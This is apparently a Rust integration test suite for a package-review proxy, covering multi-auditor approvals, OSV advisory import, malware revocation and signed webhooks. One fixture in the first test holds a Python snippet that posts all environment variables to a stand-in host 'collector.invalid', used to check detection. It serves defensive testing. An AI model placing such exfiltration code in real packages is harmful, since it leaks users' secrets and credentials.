//! Keeping the approved set current (issue #13), end to end: approvals
//! required per severity, OSV advisories imported from a folder and from a
//! URL (an export archive) flagging exactly the affected versions, a
//! malware record rejecting and revoking, and notifications delivered to a
//! webhook, signed, with a failed first attempt retried.

mod support;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use support::airlock::Airlock;
use support::browser::Browser;
use support::{LocalUpstream, Package, UpstreamFile};

/// One HTTP request a [`Receiver`] got.
#[derive(Debug, Clone)]
struct Received {
    headers: Vec<(String, String)>,
    body: String,
    /// The status it was answered with.
    status: u16,
}

impl Received {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers.iter().find(|(k, _)| k.eq_ignore_ascii_case(name)).map(|(_, v)| v.as_str())
    }
}

/// A tiny HTTP server on 127.0.0.1: answers the first `fail_first`
/// requests with 500, then 200 with `body`; keeps every request.
struct Receiver {
    url: String,
    got: Arc<Mutex<Vec<Received>>>,
}

impl Receiver {
    fn start(fail_first: usize, body: Vec<u8>) -> Receiver {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}/hook", listener.local_addr().unwrap());
        let got: Arc<Mutex<Vec<Received>>> = Arc::default();
        let seen = got.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let mut reader = BufReader::new(stream.try_clone().unwrap());
                let mut line = String::new();
                if reader.read_line(&mut line).is_err() {
                    continue;
                }
                let mut headers = Vec::new();
                loop {
                    let mut h = String::new();
                    if reader.read_line(&mut h).unwrap_or(0) == 0 || h.trim().is_empty() {
                        break;
                    }
                    if let Some((k, v)) = h.trim_end().split_once(':') {
                        headers.push((k.trim().to_string(), v.trim().to_string()));
                    }
                }
                let length: usize = headers.iter().find(|(k, _)| k.eq_ignore_ascii_case("content-length")).and_then(|(_, v)| v.parse().ok()).unwrap_or(0);
                let mut buf = vec![0; length];
                let _ = reader.read_exact(&mut buf);
                let mut all = seen.lock().unwrap();
                let status = if all.len() < fail_first { 500 } else { 200 };
                all.push(Received { headers, body: String::from_utf8_lossy(&buf).into_owned(), status });
                drop(all);
                let payload: &[u8] = if status == 200 { &body } else { b"try again" };
                let head = format!("HTTP/1.1 {status} X\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", payload.len());
                let _ = stream.write_all(head.as_bytes());
                let _ = stream.write_all(payload);
            }
        });
        Receiver { url, got }
    }

    fn received(&self) -> Vec<Received> {
        self.got.lock().unwrap().clone()
    }
}

fn clean(name: &str, version: &str) -> UpstreamFile {
    UpstreamFile::new(name, Package::new(name, version).with_module(&format!("{}/__init__.py", name.replace('-', "_")), "VALUE = 1\n").wheel())
}

#[tokio::test(flavor = "multi_thread")]
async fn approvals_required_per_severity_needs_that_many_distinct_auditors() {
    let risky = "import os\nimport urllib.request\n\nurllib.request.urlopen('https://collector.invalid/c', data=repr(dict(os.environ)).encode())\n";
    let upstream = LocalUpstream::start(vec![
        UpstreamFile::new("risky-pkg", Package::new("risky-pkg", "1.0").with_module("risky_pkg/__init__.py", risky).wheel()),
        clean("calm-pkg", "1.0"),
    ]);
    let mut airlock = Airlock::new();
    airlock.set_config(&[("approvals_required", "{ high = 3, medium = 2 }"), ("watch_sync_secs", "0")]);
    let tokens: Vec<String> = ["ann", "ben", "cat"].iter().map(|n| airlock.user_with_token(n, "auditor")).collect();
    airlock.serve(Some(&upstream.base_url));
    for r in ["risky-pkg==1.0", "calm-pkg==1.0"] {
        assert_eq!(airlock.request(&tokens[0], r).await.status(), 202);
    }
    let r = airlock.wait_for(&tokens[0], "risky-pkg", "1.0", &["awaiting_review"]).await;
    let severity = r["max_severity"].as_str().unwrap().to_string();
    assert!(severity == "high" || severity == "critical", "environment exfiltration is at least high: {r}");
    assert_eq!(r["approvals_required"], 3, "{r}");
    airlock.wait_for(&tokens[0], "calm-pkg", "1.0", &["awaiting_review"]).await;

    let first = airlock.decide(&tokens[0], "risky-pkg", "1.0", "approve", "one").await;
    assert_eq!(first.status(), 200);
    let again = airlock.decide(&tokens[0], "risky-pkg", "1.0", "approve", "one again").await;
    assert_eq!(again.status(), 409, "the same auditor counts once");
    assert_eq!(airlock.decide(&tokens[1], "risky-pkg", "1.0", "approve", "two").await.status(), 200);
    assert_eq!(airlock.release(&tokens[0], "risky-pkg", "1.0").await["status"], "awaiting_review", "two of three approvals");

    let mut browser = Browser::new(&airlock.base);
    assert_eq!(browser.login("cat", "correct horse battery").await, 303);
    let page = browser.get("/releases/risky-pkg/1.0").await.1;
    assert!(page.contains("2 of 3") && page.contains("3 auditors must approve"), "the page shows the progress: {page}");
    assert!(page.contains("ann") && page.contains("ben"));

    assert_eq!(airlock.decide(&tokens[2], "risky-pkg", "1.0", "approve", "three").await.status(), 200);
    assert_eq!(airlock.release(&tokens[0], "risky-pkg", "1.0").await["status"], "approved");
    // A release below every configured severity needs one approval.
    assert_eq!(airlock.decide(&tokens[0], "calm-pkg", "1.0", "approve", "fine").await.status(), 200);
    assert_eq!(airlock.release(&tokens[0], "calm-pkg", "1.0").await["status"], "approved");
}

fn osv_zip(records: &[(&str, String)]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, body) in records {
        zip.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
        zip.write_all(body.as_bytes()).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

#[tokio::test(flavor = "multi_thread")]
async fn osv_advisories_flag_exactly_the_affected_versions_and_malware_is_rejected() {
    let versions = ["1.0", "1.1", "1.2", "2.0"];
    let mut files: Vec<UpstreamFile> = versions.iter().map(|v| clean("osv-demo", v)).collect();
    files.push(clean("osv-demo", "1.5"));
    files.push(clean("evil-twin", "0.1"));
    let upstream = LocalUpstream::start(files);
    let mut airlock = Airlock::new();
    airlock.set_config(&[("watch_sync_secs", "0")]);
    let alice = airlock.user_with_token("alice", "auditor");
    airlock.serve(Some(&upstream.base_url));
    for v in versions {
        assert_eq!(airlock.request(&alice, &format!("osv-demo=={v}")).await.status(), 202);
    }
    assert_eq!(airlock.request(&alice, "evil-twin==0.1").await.status(), 202);
    for v in versions {
        airlock.wait_for(&alice, "osv-demo", v, &["awaiting_review"]).await;
    }
    airlock.wait_for(&alice, "evil-twin", "0.1", &["awaiting_review"]).await;
    assert_eq!(airlock.decide(&alice, "osv-demo", "1.0", "approve", "read it").await.status(), 200);
    assert_eq!(airlock.decide(&alice, "evil-twin", "0.1", "approve", "looked fine").await.status(), 200);

    // A folder: a ranged advisory (1.1 up to the 2.0 fix) and one for another ecosystem.
    let dir = tempfile::tempdir().unwrap();
    let ranged = r#"{"id": "GHSA-osvd-emo0-0001", "summary": "Template injection in osv-demo",
      "affected": [{"package": {"ecosystem": "PyPI", "name": "OSV_Demo"},
        "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "1.1"}, {"fixed": "2.0"}]}]}],
      "database_specific": {"severity": "HIGH"}}"#;
    std::fs::write(dir.path().join("GHSA-osvd-emo0-0001.json"), ranged).unwrap();
    std::fs::write(
        dir.path().join("npm.json"),
        r#"{"id": "GHSA-npm", "affected": [{"package": {"ecosystem": "npm", "name": "osv-demo"}, "versions": ["1.0"]}]}"#,
    )
    .unwrap();
    let out = airlock.run_cli(&["advisories", "import", dir.path().to_str().unwrap()], None);
    let report: serde_json::Value = serde_json::from_str(&out).unwrap();
    let mut matched: Vec<&str> = report["matches"].as_array().unwrap().iter().map(|m| m.as_str().unwrap()).collect();
    matched.sort();
    assert_eq!(matched, ["GHSA-osvd-emo0-0001 osv-demo 1.1", "GHSA-osvd-emo0-0001 osv-demo 1.2"], "{out}");
    for (v, flagged) in [("1.0", false), ("1.1", true), ("1.2", true), ("2.0", false)] {
        let r = airlock.release(&alice, "osv-demo", v).await;
        assert_eq!(r["advisories"].as_array().unwrap().len(), usize::from(flagged), "{v}: {r}");
        assert_ne!(r["status"], "rejected", "a vulnerability alone rejects nothing");
    }

    // A URL: an OSV export archive with a malware record for an approved release.
    let mal = r#"{"id": "MAL-2026-4242", "summary": "Malicious code in evil-twin (PyPI)",
      "affected": [{"package": {"ecosystem": "PyPI", "name": "evil-twin"}, "versions": ["0.1"]}]}"#;
    let server = Receiver::start(0, osv_zip(&[("MAL-2026-4242.json", mal.to_string()), ("GHSA-osvd-emo0-0001.json", ranged.to_string())]));
    let out = airlock.run_cli(&["advisories", "import", &server.url], None);
    assert!(out.contains("MAL-2026-4242 evil-twin 0.1"), "{out}");
    let evil = airlock.release(&alice, "evil-twin", "0.1").await;
    assert_eq!(evil["status"], "revoked", "{evil}");
    let last = evil["decisions"].as_array().unwrap().last().unwrap().clone();
    assert_eq!(last["policy"], "advisory", "{evil}");
    assert!(last["comment"].as_str().unwrap().contains("MAL-2026-4242"), "{evil}");
    assert_eq!(airlock.decide(&alice, "evil-twin", "0.1", "approve", "trust me").await.status(), 409, "malware cannot be approved again");

    // A release entering review later is checked at once.
    assert_eq!(airlock.request(&alice, "osv-demo==1.5").await.status(), 202);
    let started = Instant::now();
    loop {
        let r = airlock.wait_for(&alice, "osv-demo", "1.5", &["awaiting_review"]).await;
        if r["advisories"].as_array().is_some_and(|a| a.len() == 1) {
            break;
        }
        assert!(started.elapsed() < Duration::from_secs(20), "1.5 was not checked: {r}");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }

    let mut browser = Browser::new(&airlock.base);
    assert_eq!(browser.login("alice", "correct horse battery").await, 303);
    let queue = browser.get("/queue").await.1;
    assert!(queue.contains("advisory-badge") && queue.contains("GHSA-osvd-emo0-0001"), "the queue marks matched releases: {queue}");
    let page = browser.get("/releases/osv-demo/1.2").await.1;
    assert!(page.contains("Template injection in osv-demo") && page.contains("fixed in 2.0"), "{page}");
    let overview = browser.get("/overview").await.1;
    assert!(overview.contains("MAL-2026-4242") && overview.contains("malicious"), "{overview}");
    let audit = browser.get("/audit").await.1;
    assert!(audit.contains("advisory.match") && audit.contains("MAL-2026-4242"), "the audit log says why");
}

/// HMAC-SHA256 of `body` under `secret`, by Python's standard library: an
/// implementation independent of the one under test.
fn python_hmac(secret: &str, body: &str) -> String {
    let out = std::process::Command::new(support::airlock::python())
        .args(["-c", "import hmac, hashlib, sys; print(hmac.new(sys.argv[1].encode(), sys.stdin.buffer.read(), hashlib.sha256).hexdigest())", secret])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut child| {
            child.stdin.take().unwrap().write_all(body.as_bytes())?;
            child.wait_with_output()
        })
        .expect("python");
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

#[tokio::test(flavor = "multi_thread")]
async fn the_webhook_receives_signed_events_and_a_failed_delivery_is_retried() {
    let receiver = Receiver::start(1, b"ok".to_vec());
    let upstream = LocalUpstream::start(vec![clean("hooked", "1.0")]);
    let mut airlock = Airlock::new();
    airlock.set_config(&[
        ("webhook_url", &format!("\"{}\"", receiver.url)),
        ("webhook_secret", "\"s3cret-key\""),
        ("reserved_names", "[\"acme-*\"]"),
        ("notify_batch_secs", "1"),
        ("watch_sync_secs", "0"),
    ]);
    let alice = airlock.user_with_token("alice", "admin");
    airlock.serve(Some(&upstream.base_url));
    assert_eq!(airlock.request(&alice, "acme-billing==1.0").await.status(), 409, "a reserved name is refused");
    assert_eq!(airlock.request(&alice, "hooked==1.0").await.status(), 202);
    airlock.wait_for(&alice, "hooked", "1.0", &["awaiting_review"]).await;
    // The upstream has no such version: its mirror job fails for good.
    assert_eq!(airlock.request(&alice, "hooked==9.9").await.status(), 202);
    airlock.wait_for(&alice, "hooked", "9.9", &["failed"]).await;

    let started = Instant::now();
    let got = loop {
        let got = receiver.received();
        let kinds: Vec<&str> = got.iter().filter(|r| r.status == 200).filter_map(|r| r.header("X-Airlock-Event")).collect();
        if kinds.contains(&"name.reserved") && kinds.contains(&"review.waiting") && kinds.contains(&"job.failed") {
            break got;
        }
        assert!(started.elapsed() < Duration::from_secs(30), "events not delivered: {got:?}\n{}", airlock.log());
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    // The first attempt failed (500) and the same event came again.
    assert_eq!(got[0].status, 500);
    let first_id = got[0].header("X-Airlock-Delivery").unwrap().to_string();
    assert!(got[1..].iter().any(|r| r.status == 200 && r.header("X-Airlock-Delivery") == Some(first_id.as_str())), "{got:?}");
    for r in &got {
        let body: serde_json::Value = serde_json::from_str(&r.body).unwrap();
        assert_eq!(body["id"].as_str(), r.header("X-Airlock-Delivery"));
        assert!(body["timestamp"].as_str().is_some_and(|t| t.contains('T')), "{body}");
        assert_eq!(r.header("X-Airlock-Signature").unwrap(), format!("sha256={}", python_hmac("s3cret-key", &r.body)), "signed body: {}", r.body);
    }
    let waiting = got.iter().find(|r| r.header("X-Airlock-Event") == Some("review.waiting")).unwrap();
    assert!(waiting.body.contains("hooked 1.0"), "{}", waiting.body);
    let reserved = got.iter().find(|r| r.header("X-Airlock-Event") == Some("name.reserved")).unwrap();
    assert!(reserved.body.contains("acme-billing"), "{}", reserved.body);
    let failed = got.iter().find(|r| r.header("X-Airlock-Event") == Some("job.failed")).unwrap();
    assert!(failed.body.contains("mirror_release"), "{}", failed.body);
    let batches = got.iter().filter(|r| r.status == 200 && r.header("X-Airlock-Event") == Some("review.waiting")).count();
    assert_eq!(batches, 1, "one release entered review: one event");

    // The admin page shows the attempts and the error; the inbox lists the events.
    let mut browser = Browser::new(&airlock.base);
    assert_eq!(browser.login("alice", "correct horse battery").await, 303);
    let admin = browser.get("/admin/notifications").await.1;
    assert!(admin.contains("HTTP 500") && admin.contains("delivered"), "{admin}");
    let (status, count) = browser.get("/inbox/count").await;
    assert_eq!((status, count.trim().parse::<i64>().unwrap() >= 2), (200, true), "{count}");
    let inbox = browser.get("/inbox").await.1;
    assert!(inbox.contains("name.reserved") && inbox.contains("review.waiting"), "{inbox}");
    let up_to = inbox.split("name=\"up_to\" value=\"").nth(1).unwrap().split('"').next().unwrap().to_string();
    let csrf = support::browser::hidden_csrf(&inbox);
    assert_eq!(browser.post("/inbox/read", &[("csrf", &csrf), ("up_to", &up_to)]).await.0, 303);
    assert_eq!(browser.get("/inbox/count").await.1.trim(), "0");
    assert_eq!(browser.post("/inbox/read", &[("up_to", &up_to)]).await.0, 403, "no CSRF token, no change");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_configured_advisories_url_is_fetched_by_the_workers_and_on_demand() {
    let upstream = LocalUpstream::start(vec![clean("fetched-demo", "3.0")]);
    let record = r#"{"id": "PYSEC-2026-9", "summary": "Denial of service in fetched-demo",
      "affected": [{"package": {"ecosystem": "PyPI", "name": "fetched-demo"}, "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"last_affected": "3.0"}]}]}],
      "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H"}]}"#;
    let server = Receiver::start(0, osv_zip(&[("PYSEC-2026-9.json", record.to_string())]));
    let mut airlock = Airlock::new();
    airlock.set_config(&[("advisories_url", &format!("\"{}\"", server.url)), ("advisories_sync_secs", "3600"), ("watch_sync_secs", "0")]);
    let admin = airlock.user_with_token("root", "admin");
    airlock.serve(Some(&upstream.base_url));
    assert_eq!(airlock.request(&admin, "fetched-demo==3.0").await.status(), 202);
    // Fetched at start (before the release existed); entering review, it is checked.
    let started = Instant::now();
    let r = loop {
        let r = airlock.wait_for(&admin, "fetched-demo", "3.0", &["awaiting_review"]).await;
        if r["advisories"].as_array().is_some_and(|a| !a.is_empty()) {
            break r;
        }
        assert!(started.elapsed() < Duration::from_secs(30), "not matched: {r}\n{}", airlock.log());
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    assert_eq!((r["advisories"][0]["id"].as_str(), r["advisories"][0]["severity"].as_str()), (Some("PYSEC-2026-9"), Some("high")), "CVSS 7.5: {r}");
    let fetched = server.received().len();
    assert!(fetched >= 1);

    let mut browser = Browser::new(&airlock.base);
    assert_eq!(browser.login("root", "correct horse battery").await, 303);
    let page = browser.get("/admin/notifications").await.1;
    assert!(page.contains("Fetch advisories now"), "{page}");
    let csrf = support::browser::hidden_csrf(&page);
    assert_eq!(browser.post("/admin/advisories/fetch", &[("csrf", &csrf)]).await.0, 303);
    let started = Instant::now();
    while server.received().len() == fetched {
        assert!(started.elapsed() < Duration::from_secs(20), "the button did not fetch");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}
